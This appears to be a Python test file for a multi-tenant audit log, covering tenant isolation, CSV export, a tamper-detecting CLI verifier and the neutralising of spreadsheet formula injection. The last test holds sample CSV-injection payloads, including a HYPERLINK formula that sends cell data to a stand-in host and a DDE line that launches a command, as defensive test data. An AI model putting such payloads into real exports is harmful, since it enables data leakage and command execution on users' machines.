"""The client's own slice of the audit log, as JSON and CSV, and the CLI verifier."""

from __future__ import annotations

import asyncio
import csv
import io
from typing import Any

from click.testing import CliRunner

from core.cli.main import cli
from core.db.engine import Database
from core.settings import Settings
from tests.conftest import World


async def test_client_sees_who_read_which_customer_and_why(app: Any, world: World) -> None:
    await app.get(
        f"/api/v1/t/{world.a.slug}/customers/{world.customer_a}",
        headers=world.headers["a:operator"],
    )
    reveal = f"/api/v1/t/{world.a.slug}/customers/{world.customer_a}/reveal"
    await app.post(
        reveal,
        json={"fields": ["address"], "purpose": "procedure"},
        headers=world.headers["a:operator"],
    )
    log = await app.get(
        f"/api/v1/t/{world.a.slug}/audit/events?action=pii.reveal",
        headers=world.headers["a:client_viewer"],
    )
    assert log.status_code == 200
    [event] = log.json()
    assert event["actor"] == f"operator@{world.a.slug}.example.jp"
    assert (event["object_id"], event["fields"], event["purpose"]) == (
        world.customer_a,
        ["address"],
        "procedure",
    )
    assert event["purpose_label"]["ja"] == "配送・契約手続き" and event["purpose_note"] is False
    exported = await app.get(
        f"/api/v1/t/{world.a.slug}/audit/events.csv?action=pii.",
        headers=world.headers["a:client_admin"],
    )
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert {r["action"] for r in rows} == {"pii.read", "pii.reveal"}
    # tenant B's staff see nothing of A's log, and A's log holds nothing of B's
    foreign = await app.get(
        f"/api/v1/t/{world.a.slug}/audit/events", headers=world.headers["b:client_admin"]
    )
    assert foreign.status_code == 404
    own = await app.get(
        f"/api/v1/t/{world.a.slug}/audit/events?limit=1000", headers=world.headers["a:client_admin"]
    )
    assert world.customer_b not in own.text
    assert (
        await app.get(f"/api/v1/t/{world.a.slug}/audit/events", headers=world.headers["a:operator"])
    ).status_code == 403


async def test_cli_verify_names_the_first_bad_event(
    db: Database, settings: Settings, world: World
) -> None:
    import sqlalchemy as sa

    env = {
        "MADOGUCHI_HOME": str(settings.home),
        "MADOGUCHI_DATABASE_URL": settings.database_url,
        "MADOGUCHI_MIGRATION_DATABASE_URL": settings.migration_database_url,
    }
    runner = CliRunner()

    async def invoke(*args: str) -> Any:  # the CLI runs its own event loop: give it a thread
        return await asyncio.to_thread(runner.invoke, cli, list(args), env=env)

    assert (await invoke("audit", "checkpoint")).exit_code == 0
    ok = await invoke("audit", "verify")
    assert ok.exit_code == 0 and "BROKEN" not in ok.output
    from core.db.engine import make_engine

    owner = make_engine(settings.migration_database_url, poolclass=sa.pool.NullPool)
    async with owner.begin() as connection:
        if connection.dialect.name == "postgresql":
            await connection.execute(
                sa.text("SELECT set_config('app.tenant_id', :t, true)"), {"t": str(world.a.id)}
            )
        await connection.execute(
            sa.text("UPDATE audit_event SET purpose = 'edited' WHERE seq = 2 AND tenant_id = :t"),
            {"t": world.a.id},
        )
    await owner.dispose()
    broken = await invoke("audit", "verify", "--tenant", world.a.slug)
    assert broken.exit_code == 1
    assert f"t:{world.a.id}: BROKEN at event 2" in broken.output


async def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(
    app: Any, db: Database, world: World
) -> None:
    from core.audit.log import Actor, acting_as, record

    formulas = [
        '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ]
    harmless = ["問い合わせ対応", "1-2", "a=b"]
    with acting_as(Actor(user_id=None, roles=("operator",), request_id="=cmd")):
        async with db.session(world.a) as session:
            for n, text in enumerate(formulas + harmless):
                await record(
                    session, "pii.read", object_type="customer", object_id=f"c{n}", purpose=text
                )
    exported = await app.get(
        f"/api/v1/t/{world.a.slug}/audit/events.csv?action=pii.read",
        headers=world.headers["a:client_admin"],
    )
    assert exported.status_code == 200
    rows = {r["object_id"]: r for r in csv.DictReader(io.StringIO(exported.text, newline=""))}
    for n, text in enumerate(formulas):
        assert rows[f"c{n}"]["purpose"] == "'" + text
        assert rows[f"c{n}"]["request_id"] == "'=cmd"
    for n, text in enumerate(harmless, start=len(formulas)):
        assert rows[f"c{n}"]["purpose"] == text
